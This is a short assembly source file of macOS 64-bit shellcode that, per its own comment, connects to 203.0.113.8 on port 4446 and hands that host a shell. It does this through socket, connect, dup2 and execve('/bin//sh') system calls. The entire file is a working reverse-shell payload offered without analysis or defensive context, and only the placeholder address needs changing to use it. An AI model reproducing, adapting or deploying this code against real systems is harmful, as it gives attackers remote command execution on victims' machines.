; macOS, 64 bit: connects to 203.0.113.8 port 4446 and gives it a shell.
bits 64
        mov eax, 0x2000061
        push 2
        pop rdi
        push 1
        pop rsi
        xor edx, edx
        syscall
        mov rdi, rax
        mov rcx, 0x087100cb5e110200
        push rcx
        mov rsi, rsp
        push 16
        pop rdx
        mov eax, 0x2000062
        syscall
        xor esi, esi
dup:    mov eax, 0x200005a
        syscall
        inc esi
        cmp esi, 3
        jne dup
        xor esi, esi
        xor edx, edx
        push rsi
        mov rdi, '/bin//sh'
        push rdi
        mov rdi, rsp
        mov eax, 0x200003b
        syscall
